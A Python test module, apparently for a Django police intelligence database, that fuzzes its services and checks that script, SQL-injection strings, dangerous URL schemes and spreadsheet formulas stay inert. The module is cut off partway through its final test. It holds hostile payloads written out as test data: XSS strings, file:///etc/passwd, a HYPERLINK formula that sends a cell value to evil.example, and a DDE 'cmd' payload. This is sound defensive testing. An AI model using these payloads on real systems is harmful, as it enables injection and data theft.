"""Hostile input (issue 6 item 4; docs/engineering.md, Bad input; OWASP ASVS V5): random values never crash a
service or leave half a change; HTML and script in every text field are inert on every page that shows
them; malformed and oversize API bodies get a clear 4xx and change nothing.

The hypothesis tests call the services directly, as the forms, the API and the commands do. Each example
runs in a savepoint that is always rolled back, so examples never see each other's writes.
"""

import csv
import io
import json
import os
import re
from datetime import date, timedelta
from urllib.parse import urlencode

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.db import transaction
from django.utils import timezone
from django.utils.html import escape
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from audit.log import justification_as_read
from audit.models import AccessEvent
from core.history import fit_change_reason
from matrix import evidence_services, services, workflow
from matrix.choices import (
    Classification,
    Ethnicity,
    Gender,
    IntelligenceAssessment,
    Nature,
    SourceEvaluation,
    SourceType,
    Status,
)
from matrix.models import (
    Borough,
    Evidence,
    OffenceType,
    ReferenceCounter,
    Subject,
    SubjectAccessGrant,
    SubjectReview,
)
from matrix.services import StaleVersion
from sharing import services as sharing
from sharing.choices import DisclosureStatus
from sharing.models import Disclosure, DisclosureNotice
from tests.conftest import HACKNEY, SOUTHWARK
from tests.factories import make_user
from tests.sharing_factories import (
    ALL_FIELDS,
    AgreementFactory,
    PartnerAgencyFactory,
    basis,
    make_partner_user,
)

pytestmark = pytest.mark.django_db

# InvalidTransition is a ValidationError, so it is covered by it.
REFUSALS = (ValidationError, PermissionDenied, StaleVersion)
# 40 examples per test keeps the file well under a minute; HOSTILE_EXAMPLES=1000 searches harder.
HOSTILE = settings(
    max_examples=int(os.environ.get("HOSTILE_EXAMPLES", "40")),
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

# ---------------------------------------------------------------------------------------------------
# Strategies

ODD_PIECES = [
    "\u202e",
    "\u202d",
    "\u200f",
    "\u200e",  # bidirectional overrides and marks (RTL tricks)
    "\u200b",
    "\u200c",
    "\u200d",
    "\ufeff",
    "\u2060",  # zero-width characters and the BOM
    "\u2028",
    "\u2029",
    "\r\n",
    "\t",
    "\x0b",
    "\x1b[31m",  # separators and control characters
    "\x00",  # NUL: PostgreSQL cannot store it in text
    "😀",
    "👨‍👩‍👧",
    "🏳️‍🌈",
    "𝕏",
    "e\u0301",
    "ﷺ",
    "\U0010fffd",
    "Ǆ",
    "ß",
    "İ",  # astral, combining, case quirks
    "'; DROP TABLE matrix_subject; --",
    "%s",
    "{0}",
    "%(x)s",
    "\\",
    "../../",
    "<script>alert(1)</script>",
]
odd_text = st.lists(st.sampled_from(ODD_PIECES), min_size=1, max_size=8).map("".join)
any_text = st.one_of(
    st.text(max_size=40),  # any Unicode without surrogates (hypothesis leaves them out of text())
    odd_text,
    st.tuples(st.text(min_size=1, max_size=12), odd_text).map("".join),
    st.sampled_from(["", " ", "\t \n", "\u3000"]),
    # Very long strings, beyond every column's limit.
    st.tuples(st.sampled_from(["x", "ü", "😀", "\u200b"]), st.integers(80, 120_000)).map(lambda p: p[0] * p[1]),
)
wrong_type = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(10**20), max_value=10**20),
    st.floats(allow_nan=True, allow_infinity=True),
    st.binary(max_size=8),
    st.lists(st.integers(), max_size=3),
    st.dictionaries(st.text(max_size=3), st.integers(), max_size=2),
    st.datetimes(),
)
any_date = st.one_of(
    st.dates(),  # 0001-01-01 to 9999-12-31: far past and far future
    st.dates().map(date.isoformat),
    st.text(max_size=12),
    st.sampled_from(["2024-02-30", "0000-00-00", "31/12/2000", "2000-1-1", "tomorrow"]),
    wrong_type,
)


def storable(max_size=None, min_size=1):
    """Odd but acceptable text: any Unicode the column can hold (no NUL, within its length)."""
    limit = max_size or 200_000
    return st.one_of(
        st.text(min_size=min_size, max_size=min(limit, 60)),
        odd_text,
        st.tuples(st.text(min_size=1, max_size=12), odd_text).map("".join),
        st.tuples(st.sampled_from(["x", "ü", "😀", "\u202e"]), st.integers(1, limit)).map(lambda p: p[0] * p[1]),
    ).filter(lambda text: "\x00" not in text and min_size <= len(text) <= limit)


def reason_text(min_length=10):
    """A reason long enough to be accepted, made of odd text (and sometimes very long)."""
    return (
        st.tuples(st.just("Synthetic: "), storable(min_size=0))
        .map("".join)
        .filter(lambda text: len(text.strip()) >= min_length)
    )


def hostile(valid_strategy, *, also=()):
    """Half the examples get acceptable (if odd) values, the others anything at all."""
    return st.one_of(valid_strategy, any_text, wrong_type, *also)


def choices_of(choices):
    return st.sampled_from([c.value for c in choices])


def past_dates(years=100):
    today = timezone.localdate()
    return st.dates(min_value=today - timedelta(days=365 * years), max_value=today)


# ---------------------------------------------------------------------------------------------------
# Running one example


class Rollback(Exception):
    """Raised at the end of every example so its savepoint, and anything written in it, is undone."""


COUNTED = {
    "subjects": Subject,
    "subject history": Subject.history.model,
    "evidence": Evidence,
    "evidence history": Evidence.history.model,
    "reviews": SubjectReview,
    "break-glass grants": SubjectAccessGrant,
    "disclosures": Disclosure,
    "disclosure history": Disclosure.history.model,
    "notices": DisclosureNotice,
    "access log": AccessEvent,
}


def state() -> dict:
    counts = {name: model.objects.count() for name, model in COUNTED.items()}
    counts["reference numbers"] = sorted(ReferenceCounter.objects.values_list("series", "last_number"))
    return counts


def delta(before: dict, after: dict) -> dict:
    return {name: after[name] - before[name] for name in COUNTED if after[name] != before[name]}


def attempt(call, on_success, *, expect_success: bool = False):
    """Call a service in a savepoint that is always rolled back.

    A refusal must be one of REFUSALS and must write nothing; anything else fails the test (and
    hypothesis shrinks it to the smallest input that does it). ``on_success(result, before, after)``
    runs inside the savepoint, while the writes are still visible. ``expect_success``: the input was
    odd but acceptable, so a refusal is a failure too.
    """
    try:
        with transaction.atomic():
            before = state()
            try:
                result = call()
            except REFUSALS as refusal:
                event(f"refused: {type(refusal).__name__}")  # see --hypothesis-show-statistics
                assert not expect_success, f"acceptable input refused: {refusal!r}"
                assert str(refusal).strip(), "a refusal must say why"
                after = state()
                assert after == before, f"refused ({refusal!r}) but wrote: {delta(before, after)}"
            else:
                event("accepted")
                on_success(result, before, state())
            raise Rollback
    except Rollback:
        pass


# ---------------------------------------------------------------------------------------------------
# Services
#
# Each test draws a mode: "storable" examples use odd but acceptable values (and must be accepted
# often, so what is stored is checked to come back exactly); "hostile" examples use anything at all.


@pytest.fixture
def world(officer, supervisor, outsider, make_subject):
    """Records in every state, built once per test; each hypothesis example is rolled back."""
    return {
        "officer": officer,
        "supervisor": supervisor,
        "outsider": outsider,
        "draft": make_subject("draft", family_name="Draftperson"),
        "approved": make_subject("approved", family_name="Approvedperson"),
        "removed": make_subject("removed", family_name="Removedperson"),
        "hackney": Borough.objects.get(code=HACKNEY),
        "southwark": Borough.objects.get(code=SOUTHWARK),
        "offence": OffenceType.objects.create(code="synthetic-offence", label="Synthetic offence"),
    }


def subject_fields(world, storable_mode: bool) -> dict:
    """Strategies for each editable subject field."""
    valid = {
        "borough": st.just(world["hackney"]),
        "family_name": storable(100),
        "given_names": storable(150),
        "aliases": storable(min_size=0),
        # At least 10 years old today, so any classification is allowed.
        "date_of_birth": st.dates(
            min_value=date(1900, 1, 1), max_value=timezone.localdate() - timedelta(days=11 * 366)
        ),
        "gender": choices_of(Gender),
        "ethnicity": choices_of(Ethnicity),
        "classification": choices_of(Classification),
        "also_victim": st.just(False),
    }
    if storable_mode:
        return valid
    return {
        **{name: hostile(strategy) for name, strategy in valid.items()},
        "borough": hostile(st.sampled_from([world["hackney"], world["southwark"]])),
        "date_of_birth": hostile(valid["date_of_birth"], also=[any_date]),
        "also_victim": hostile(st.booleans()),
    }


# Fields nobody may set through these services (mass assignment).
PROTECTED = st.dictionaries(
    st.sampled_from(["status", "version", "reference", "uuid", "created_by", "harm_score", "approved_by", "id"]),
    st.one_of(any_text, wrong_type),
    max_size=1,
)


def check_text_round_trip(model, pk, values: dict) -> None:
    """Whatever Unicode was accepted comes back exactly: not truncated, normalised or mangled."""
    row = model.objects.get(pk=pk)
    for name, value in values.items():
        if isinstance(value, str) and name not in ("date_of_birth", "information_date", "captured_on"):
            assert getattr(row, name) == value, name


@given(data=st.data())
@HOSTILE
def test_create_subject_with_random_values(world, data):
    mode = data.draw(st.booleans(), label="storable")
    strategies = subject_fields(world, mode)
    fields = data.draw(
        st.fixed_dictionaries(strategies)
        if mode
        else st.fixed_dictionaries(
            {"borough": strategies["borough"]}, optional={k: v for k, v in strategies.items() if k != "borough"}
        )
    )
    if not mode:
        fields.update(data.draw(PROTECTED))
    reason = data.draw(storable(min_size=0) if mode else hostile(storable(min_size=0)), label="reason")
    actor = world["officer"] if mode else world[data.draw(st.sampled_from(["officer", "outsider", "supervisor"]))]

    def created(subject, before, after):
        assert delta(before, after) == {"subjects": 1, "subject history": 1, "access log": 1}
        assert subject.status == Status.DRAFT and subject.version == 1
        check_text_round_trip(Subject, subject.pk, {k: v for k, v in fields.items() if k != "borough"})
        assert subject.history.get().history_change_reason == fit_change_reason(subject, reason)

    attempt(lambda: services.create_subject(acting_user=actor, reason=reason, **fields), created, expect_success=mode)


@given(data=st.data())
@HOSTILE
def test_update_subject_with_random_values(world, data):
    mode = data.draw(st.booleans(), label="storable")
    strategies = subject_fields(world, mode)
    if mode:
        subject = world[data.draw(st.sampled_from(["draft", "approved"]))]
        changes = data.draw(st.fixed_dictionaries({}, optional={k: v for k, v in strategies.items() if k != "borough"}))
        version, reason, actor = subject.version, data.draw(storable(min_size=0)), world["officer"]
    else:
        subject = world[data.draw(st.sampled_from(["draft", "approved", "removed"]))]
        changes = data.draw(st.one_of(st.fixed_dictionaries({}, optional=strategies), wrong_type))
        if isinstance(changes, dict):
            changes.update(data.draw(PROTECTED))
        version = data.draw(st.one_of(st.just(subject.version), st.integers(-3, 5), any_text, wrong_type))
        reason = data.draw(hostile(storable(min_size=0)))
        actor = world[data.draw(st.sampled_from(["officer", "outsider", "supervisor"]))]

    def updated(result, before, after):
        if delta(before, after) == {}:
            return  # nothing actually changed, so nothing is written
        assert delta(before, after) == {"subject history": 1, "access log": 1}
        assert result.version == subject.version + 1
        check_text_round_trip(Subject, subject.pk, {k: v for k, v in changes.items() if k != "borough"})

    attempt(
        lambda: services.update_subject(
            acting_user=actor, subject=subject, expected_version=version, changes=changes, reason=reason
        ),
        updated,
        expect_success=mode,
    )


SOCIAL_MEDIA_URLS = [
    "https://social.example.test/post/1",
    "https://social.example.test/p?q=\u202e&x=😀",
    'https://social.example.test/x"><script>alert(1)</script>',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.cookie)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    "https://",
]
# Web addresses with odd but legal paths.
storable_urls = st.text(alphabet=st.characters(exclude_categories=("Zs", "Zl", "Zp", "Cc", "Cs")), max_size=60).map(
    lambda path: f"https://social.example.test/{path}"
)


@given(data=st.data())
@HOSTILE
def test_add_evidence_with_random_values(world, data):
    mode = data.draw(st.booleans(), label="storable")
    social = data.draw(st.booleans(), label="social media")
    conditions = data.draw(st.booleans(), label="handling code C")
    recent = st.dates(min_value=timezone.localdate() - timedelta(days=3650), max_value=timezone.localdate())
    valid = {
        "summary": storable(),
        "information_date": recent,
        "source_type": st.just("social_media")
        if social
        else st.sampled_from([c.value for c in SourceType if c != SourceType.SOCIAL_MEDIA]),
        "source_reference": storable(100),
        "source_evaluation": choices_of(SourceEvaluation),
        "intelligence_assessment": choices_of(IntelligenceAssessment),
        "handling_code": st.just("C") if conditions else st.sampled_from(["P"]),
        "nature": choices_of(Nature),
        "offence_type": st.sampled_from([None, world["offence"]]),
        "relates_to_victimisation": st.booleans(),
    }
    if conditions:
        valid["handling_conditions"] = storable()
    if social:
        valid.update(social_media_url=storable_urls, social_media_platform=storable(60), captured_on=recent)
    if mode:
        fields = data.draw(st.fixed_dictionaries(valid))
        subject, actor, reason = world["draft"], world["officer"], data.draw(storable())
    else:
        strategies = {name: hostile(strategy) for name, strategy in valid.items()}
        strategies["information_date"] = hostile(recent, also=[any_date])
        optional = {
            "handling_conditions": hostile(storable()),
            "social_media_url": hostile(storable_urls, also=[st.sampled_from(SOCIAL_MEDIA_URLS)]),
            "social_media_platform": hostile(storable(60)),
            "captured_on": hostile(recent, also=[any_date]),
        }
        required = {name: strategy for name, strategy in strategies.items() if name not in optional}
        fields = data.draw(
            st.fixed_dictionaries(
                required,
                optional={**optional, **{name: strategy for name, strategy in strategies.items() if name in optional}},
            )
        )
        fields.update(
            data.draw(
                st.dictionaries(
                    st.sampled_from(["verification", "verified_by", "withdrawn_at", "created_by"]),
                    st.one_of(any_text, wrong_type),
                    max_size=1,
                )
            )
        )
        subject = world[data.draw(st.sampled_from(["draft", "approved", "removed"]))]
        actor = world[data.draw(st.sampled_from(["officer", "outsider"]))]
        reason = data.draw(hostile(storable()))

    def added(item, before, after):
        changed = delta(before, after)
        assert changed.pop("evidence") == 1 and changed.pop("evidence history") == 1
        assert changed.pop("access log") == 1
        assert changed in ({}, {"subject history": 1})  # the harm score or lapse flag may be recalculated
        check_text_round_trip(Evidence, item.pk, fields)
        url = item.social_media_url
        # Only web addresses are ever stored: no javascript:, data:, vbscript: or file: link can reach a page.
        assert url == "" or url.lower().startswith(("http://", "https://", "ftp://", "ftps://")), url
        assert item.verification == ("unverified" if item.source_type == "social_media" else "not_required")

    attempt(
        lambda: evidence_services.add_evidence(acting_user=actor, subject=subject, reason=reason, **fields),
        added,
        expect_success=mode,
    )


@pytest.fixture
def agreement():
    return AgreementFactory(shareable_fields=["name", "aliases", "classification", "evidence"])


@given(data=st.data())
@HOSTILE
def test_request_disclosure_with_random_values(world, agreement, data):
    mode = data.draw(st.booleans(), label="storable")
    valid_fields = st.lists(st.sampled_from(agreement.shareable_fields), min_size=1, max_size=4)
    valid_expiry = st.one_of(
        st.none(), st.dates(min_value=timezone.localdate() + timedelta(days=1), max_value=agreement.valid_to)
    )
    if mode:
        purpose, fields, expiry = data.draw(reason_text()), data.draw(valid_fields), data.draw(valid_expiry)
        lawful_basis, subject, actor = basis("cda-1998-s115"), world["approved"], world["officer"]
    else:
        purpose = data.draw(hostile(reason_text()))
        fields = data.draw(
            hostile(
                valid_fields,
                also=[
                    st.lists(st.one_of(st.sampled_from(ALL_FIELDS), any_text, wrong_type), max_size=4),
                    st.sets(st.sampled_from(ALL_FIELDS), max_size=3),
                ],
            )
        )
        expiry = data.draw(hostile(valid_expiry, also=[st.dates(), any_date]))
        lawful_basis = basis(data.draw(st.sampled_from(["cda-1998-s115", "dpa-2018-sch8-para4", "pcsc-2022-s16"])))
        subject = world[data.draw(st.sampled_from(["approved", "draft", "removed"]))]
        actor = world[data.draw(st.sampled_from(["officer", "outsider", "supervisor"]))]

    def requested(disclosure, before, after):
        assert delta(before, after) == {"disclosures": 1, "disclosure history": 1, "access log": 1}
        assert disclosure.status == DisclosureStatus.REQUESTED
        row = Disclosure.objects.get(pk=disclosure.pk)
        assert row.purpose == purpose.strip()
        assert set(row.fields) <= set(agreement.shareable_fields)

    attempt(
        lambda: sharing.request_disclosure(
            acting_user=actor,
            subject=subject,
            agreement=agreement,
            lawful_basis=lawful_basis,
            purpose=purpose,
            fields=fields,
            expiry=expiry,
        ),
        requested,
        expect_success=mode,
    )


@pytest.fixture
def submitted(make_subject):
    return make_subject("submitted", family_name="Submittedperson")


@given(data=st.data())
@HOSTILE
def test_reject_with_random_reasons(world, submitted, data):
    mode = data.draw(st.booleans(), label="storable")
    reason = data.draw(reason_text() if mode else hostile(reason_text()), label="reason")
    actor = world["supervisor" if mode else data.draw(st.sampled_from(["supervisor", "officer", "outsider"]))]

    def rejected(subject, before, after):
        assert delta(before, after) == {"subject history": 1, "access log": 1}
        row = Subject.objects.get(pk=subject.pk)
        assert row.status == Status.REJECTED
        # The full reason is kept on the record and in the access log; history keeps what fits its column.
        assert row.rejection_reason == reason.strip()
        assert justification_as_read(AccessEvent.objects.order_by("-sequence").first()) == reason.strip()
        history_reason = subject.history.first().history_change_reason
        assert len(history_reason) <= 100 and history_reason.startswith("Rejected")

    attempt(
        lambda: workflow.reject_subject(acting_user=actor, subject=submitted, reason=reason),
        rejected,
        expect_success=mode,
    )


@pytest.fixture
def decisions(world, agreement, submitted):
    """A pending and a live disclosure of the approved subject, and a DPO, for the other free-text steps."""
    subject, officer, supervisor = world["approved"], world["officer"], world["supervisor"]

    def request():
        return sharing.request_disclosure(
            acting_user=officer,
            subject=subject,
            agreement=agreement,
            lawful_basis=basis("cda-1998-s115"),
            purpose="Synthetic: joint safeguarding plan agreed at panel",
            fields=["name"],
        )

    return {
        "pending": request(),
        "live": sharing.approve_disclosure(acting_user=supervisor, disclosure=request()),
        "dpo": make_user("dpo", username="dpo.fuzz"),
        "submitted": submitted,
    }


STEPS = {
    "remove": lambda w, d, text: workflow.remove_subject(
        acting_user=w["supervisor"], subject=w["approved"], reason=text
    ),
    "review retain": lambda w, d, text: workflow.review_subject(
        acting_user=w["supervisor"], subject=w["approved"], outcome="retain", justification=text
    ),
    "review remove": lambda w, d, text: workflow.review_subject(
        acting_user=w["supervisor"], subject=w["approved"], outcome="remove", justification=text
    ),
    "approve with a note": lambda w, d, text: workflow.approve_subject(
        acting_user=w["supervisor"], subject=d["submitted"], reason=text
    ),
    "restrict": lambda w, d, text: workflow.restrict_processing(
        acting_user=d["dpo"], subject=w["approved"], reason=text
    ),
    "refuse disclosure": lambda w, d, text: sharing.refuse_disclosure(
        acting_user=w["supervisor"], disclosure=d["pending"], reason=text
    ),
    "revoke disclosure": lambda w, d, text: sharing.revoke_disclosure(
        acting_user=w["supervisor"], disclosure=d["live"], reason=text
    ),
    "break glass": lambda w, d, text: services.grant_break_glass(
        acting_user=w["outsider"], subject=w["approved"], justification=text, hours=2
    ),
}


@given(step=st.sampled_from(sorted(STEPS)), data=st.data())
@HOSTILE
def test_other_reasons_and_justifications_with_random_text(world, decisions, step, data):
    """Every other step that takes free text: removal, review, restriction, disclosure decisions, break glass."""
    mode = data.draw(st.booleans(), label="storable")
    text = data.draw(reason_text(20) if mode else hostile(reason_text(20)), label="text")

    def done(result, before, after):
        assert delta(before, after).get("access log", 0) >= 1, f"{step} succeeded without an access-log entry"
        for model in (Subject, Disclosure, SubjectAccessGrant):
            assert not model.history.model.objects.filter(history_change_reason__regex=r"^.{101,}$").exists()

    attempt(lambda: STEPS[step](world, decisions, text), done, expect_success=mode)


# ---------------------------------------------------------------------------------------------------
# HTML and script are inert on every page that shows them

SCRIPT = "<script>alert(1)</script>"
ATTRIBUTE_BREAKOUT = '"><img src=x onerror=alert(1)>'
RAW_DANGER = [SCRIPT, "<img src=x onerror=alert(1)>", "<svg onload"]
# A javascript:, data: or vbscript: address in a link, a source or a form action.
ACTIVE_URL = re.compile(r"""(href|src|action|formaction)\s*=\s*["']?\s*(javascript|data|vbscript):""", re.IGNORECASE)
EVIL_URL = 'https://social.example.test/x"><script>alert(1)</script>'


def payload(marker: str) -> str:
    """A marker showing where the field is displayed, a script element and an attribute breakout.

    55 characters plus the marker, so it fits every column (the platform's 60 with a 5-letter marker)."""
    return f"{marker}{SCRIPT}{ATTRIBUTE_BREAKOUT}"


def assert_inert(page: str, shown=(), where: str = "") -> None:
    lowered = page.lower()
    for danger in RAW_DANGER:
        assert danger.lower() not in lowered, f"{where}: raw {danger!r} in the page"
    assert not ACTIVE_URL.search(page), f"{where}: {ACTIVE_URL.search(page).group(0)!r}"
    for marker in shown:
        # The field is on the page, escaped (case-insensitive: names are shown upper-cased).
        assert escape(payload(marker)).lower() in lowered, f"{where}: {marker} not shown escaped"


@pytest.fixture
def hostile_records(officer, supervisor, any_criterion):
    """Records whose every free-text field carries script, built through the real services."""
    hackney = Borough.objects.get(code=HACKNEY)
    dpo = make_user("dpo", username="dpo.hostile")
    subject = services.create_subject(
        acting_user=officer,
        borough=hackney,
        family_name=payload("FAMILY"),
        given_names=payload("GIVEN"),
        aliases=payload("ALIASONE"),
        date_of_birth=date(2003, 2, 1),
        gender="male",
        ethnicity="not_stated",
        classification="suspected",
    )
    subject = services.update_subject(
        acting_user=officer,
        subject=subject,
        expected_version=subject.version,
        changes={"aliases": f"{payload('ALIASONE')}\n{payload('ALIASTWO')}"},
        reason=payload("EDITREASON"),
    )
    common = {
        "information_date": timezone.localdate() - timedelta(days=2),
        "source_evaluation": "1",
        "intelligence_assessment": "A",
        "nature": "fact",
    }
    evidence_services.add_evidence(
        acting_user=officer,
        subject=subject,
        summary=payload("SUMMARYP"),
        source_type="police_record",
        source_reference=payload("SOURCEP"),
        handling_code="P",
        **common,
    )
    evidence_services.add_evidence(
        acting_user=officer,
        subject=subject,
        summary=payload("SUMMARYC"),
        source_type="police_record",
        source_reference="CAD-HOSTILE-C",
        handling_code="C",
        handling_conditions=payload("CONDITIONS"),
        **common,
    )
    unverified = evidence_services.add_evidence(
        acting_user=officer,
        subject=subject,
        summary=payload("SUMMARYSM"),
        source_type="social_media",
        source_reference="OSINT-HOSTILE-1",
        handling_code="P",
        social_media_url=EVIL_URL,
        social_media_platform=payload("PLAT"),
        captured_on=timezone.localdate() - timedelta(days=2),
        **common,
    )
    to_verify = evidence_services.add_evidence(
        acting_user=officer,
        subject=subject,
        summary="Synthetic second post",
        source_type="social_media",
        source_reference="OSINT-HOSTILE-2",
        handling_code="P",
        social_media_url="https://social.example.test/2",
        social_media_platform="ExampleNet",
        captured_on=timezone.localdate() - timedelta(days=2),
        **common,
    )
    evidence_services.verify_social_media(acting_user=supervisor, evidence=to_verify, method=payload("METHOD"))
    subject = workflow.submit_subject(acting_user=officer, subject=subject)
    subject = workflow.approve_subject(acting_user=supervisor, subject=subject, reason=payload("APPROVENOTE"))
    workflow.review_subject(acting_user=supervisor, subject=subject, outcome="retain", justification=payload("REVIEW"))

    partner = PartnerAgencyFactory(name=payload("PARTNER"))
    agreement = AgreementFactory(partner=partner, allows_conditioned_items=True, purposes=payload("ISAPURPOSES"))

    def request(marker, fields=("name", "aliases", "evidence")):
        return sharing.request_disclosure(
            acting_user=officer,
            subject=subject,
            agreement=agreement,
            lawful_basis=basis("cda-1998-s115"),
            purpose=payload(marker),
            fields=list(fields),
        )

    live = sharing.approve_disclosure(acting_user=supervisor, disclosure=request("PURPOSELIVE"))
    refused = sharing.refuse_disclosure(
        acting_user=supervisor, disclosure=request("PURPOSEREFUSED"), reason=payload("REFUSAL")
    )
    revoked = sharing.revoke_disclosure(
        acting_user=supervisor,
        disclosure=sharing.approve_disclosure(acting_user=supervisor, disclosure=request("PURPOSEREVOKED")),
        reason=payload("REVOCATION"),
    )
    workflow.restrict_processing(acting_user=dpo, subject=subject, reason=payload("RESTRICTION"))

    rejected = services.create_subject(
        acting_user=officer,
        borough=hackney,
        family_name=payload("REJFAMILY"),
        given_names="Synthetic",
        date_of_birth=date(2002, 3, 4),
        gender="female",
        ethnicity="not_stated",
        classification="suspected",
    )
    withdrawn = evidence_services.add_evidence(
        acting_user=officer,
        subject=rejected,
        summary=payload("REJSUMMARY"),
        source_type="police_record",
        source_reference="CAD-HOSTILE-R",
        handling_code="P",
        **common,
    )
    evidence_services.add_evidence(
        acting_user=officer,
        subject=rejected,
        summary="Synthetic arrest record",
        source_type="police_record",
        source_reference="CAD-HOSTILE-R2",
        handling_code="P",
        **common,
    )
    rejected = workflow.submit_subject(acting_user=officer, subject=rejected)
    rejected = workflow.reject_subject(acting_user=supervisor, subject=rejected, reason=payload("REJECTION"))
    evidence_services.withdraw_evidence(acting_user=officer, evidence=withdrawn, reason=payload("WITHDRAWAL"))

    return {
        "subject": subject,
        "rejected": rejected,
        "withdrawn": withdrawn,
        "unverified": unverified,
        "partner": partner,
        "live": live,
        "refused": refused,
        "revoked": revoked,
        "dpo": dpo,
    }


NAME_AND_ALIASES = ["FAMILY", "GIVEN", "ALIASONE", "ALIASTWO"]
SNAPSHOT = [*NAME_AND_ALIASES, "SUMMARYP", "SUMMARYC", "CONDITIONS"]


def test_script_in_every_field_is_inert_on_staff_pages(client, officer, supervisor, hostile_records):
    r = hostile_records
    subject, rejected = r["subject"], r["rejected"]
    pages = [
        # (who, url, markers that must be shown escaped)
        (
            supervisor,
            f"/subjects/{subject.uuid}/",
            [
                *NAME_AND_ALIASES,
                "SUMMARYP",
                "SOURCEP",
                "SUMMARYC",
                "CONDITIONS",
                "SUMMARYSM",
                "PLAT",
                "METHOD",
                "REVIEW",
                "RESTRICTION",
                "EDITREASON",
                "PARTNER",
            ],
        ),
        (officer, f"/subjects/{subject.uuid}/", NAME_AND_ALIASES),
        (officer, f"/subjects/{rejected.uuid}/", ["REJFAMILY", "REJSUMMARY", "REJECTION", "WITHDRAWAL"]),
        (officer, "/subjects/", ["FAMILY", "GIVEN", "REJFAMILY"]),
        (officer, "/subjects/?" + urlencode({"q": payload("QUERY")}), ["QUERY"]),
        (officer, "/subjects/?" + urlencode({"after": SCRIPT, "status": SCRIPT, "sort": SCRIPT}), []),
        (supervisor, "/disclosures/?" + urlencode({"partner": SCRIPT, "status": SCRIPT, "after": SCRIPT}), []),
        (officer, "/", ["REJFAMILY", "REJECTION"]),
        (supervisor, "/", ["SUMMARYSM", "PLAT"]),
        (officer, f"/subjects/{subject.uuid}/edit/", NAME_AND_ALIASES),
        (officer, f"/subjects/{rejected.uuid}/edit/", ["REJFAMILY"]),
        (supervisor, f"/subjects/{subject.uuid}/evidence/{r['unverified'].uuid}/verify/", ["SUMMARYSM", "PLAT"]),
        (officer, f"/subjects/{subject.uuid}/disclose/", ["PARTNER"]),
        (supervisor, f"/disclosures/{r['live'].uuid}/", ["PURPOSELIVE", "PARTNER", *SNAPSHOT]),
        (supervisor, f"/disclosures/{r['refused'].uuid}/", ["PURPOSEREFUSED", "REFUSAL"]),
        (supervisor, f"/disclosures/{r['revoked'].uuid}/", ["PURPOSEREVOKED", "REVOCATION", *SNAPSHOT]),
        (supervisor, "/disclosures/", ["PARTNER"]),
        (supervisor, "/disclosures/queue/", []),
    ]
    for user, url, shown in pages:
        client.force_login(user)
        response = client.get(url)
        assert response.status_code == 200, (url, response.status_code)
        assert_inert(response.content.decode(), shown, where=f"{user.username} {url}")


def test_the_social_media_link_is_escaped_inside_its_href(client, supervisor, hostile_records):
    client.force_login(supervisor)
    page = client.get(f"/subjects/{hostile_records['subject'].uuid}/").content.decode()
    assert f'href="{escape(EVIL_URL)}"' in page  # the quote cannot close the attribute


def test_script_is_inert_in_the_partner_portal(client, hostile_records):
    r = hostile_records
    client.force_login(make_partner_user(r["partner"]))
    home = client.get("/partner/")
    assert_inert(home.content.decode(), ["PARTNER", "PURPOSELIVE"], where="portal home")
    detail = client.get(f"/partner/disclosures/{r['live'].uuid}/")
    assert detail.status_code == 200
    assert_inert(detail.content.decode(), ["PARTNER", "PURPOSELIVE", *SNAPSHOT], where="portal disclosure")
    # A refused export shows the page again (after the redirect) with the typed justification: inert too.
    again = client.post(f"/partner/disclosures/{r['live'].uuid}/export.csv", {"justification": "<script>"}, follow=True)
    assert again.status_code == 200 and "&lt;script&gt;" in again.content.decode()
    assert_inert(again.content.decode(), where="portal export form errors")


def test_the_csv_export_is_a_download_never_a_page(client, hostile_records):
    r = hostile_records
    client.force_login(make_partner_user(r["partner"]))
    response = client.post(f"/partner/disclosures/{r['live'].uuid}/export.csv", {"justification": payload("WHY")})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"  # no browser will sniff it into HTML
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    values = [row[3] for row in rows[1:]]
    # The data is exported as written (escaping it for HTML would corrupt it), one value per cell.
    assert f"{payload('FAMILY')}, {payload('GIVEN')}" in values
    assert any(value.startswith(payload("SUMMARYC")) and payload("CONDITIONS") in value for value in values)
    assert all(row[:2] == [r["partner"].name, r["live"].reference] for row in rows[1:])


FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1",
]


def test_csv_export_cells_never_start_a_spreadsheet_formula(client, officer, supervisor, any_criterion):
    """CSV/formula injection (OWASP): a cell the recipient's spreadsheet would run as a formula is prefixed with '."""
    subject = services.create_subject(
        acting_user=officer,
        borough=Borough.objects.get(code=HACKNEY),
        family_name=FORMULAS[0],
        given_names=FORMULAS[1],
        aliases="\n".join(FORMULAS[2:]),
        date_of_birth=date(2003, 2, 1),
        gender="male",
        ethnicity="not_stated",
        classification="suspected",
    )
    evidence_services.add_evidence(
        acting_user=officer,
        subject=subject,
        summary=FORMULAS[3],
        information_date=timezone.localdate(),
        source_type="police_record",
        source_reference="CAD-FORMULA",
        source_evaluation="1",
        intelligence_assessment="A",
        handling_code="P",
        nature="fact",
    )
    subject = workflow.submit_subject(acting_user=officer, subject=subject)
    subject = workflow.approve_subject(acting_user=supervisor, subject=subject)
    partner = PartnerAgencyFactory(name="=cmd|' /C calc'!A0 Synthetic Council")
    agreement = AgreementFactory(partner=partner)
    live = sharing.approve_disclosure(
        acting_user=supervisor,
        disclosure=sharing.request_disclosure(
            acting_user=officer,
            subject=subject,
            agreement=agreement,
            lawful_basis=basis("cda-1998-s115"),
            purpose="-Synthetic: joint safeguarding plan",
            fields=["name", "aliases", "evidence"],
        ),
    )
    client.force_login(make_partner_user(partner))
    response = client.post(
        f"/partner/disclosures/{live.uuid}/export.csv", {"justification": "Synthetic: case file copy"}
    )
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    dangerous = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
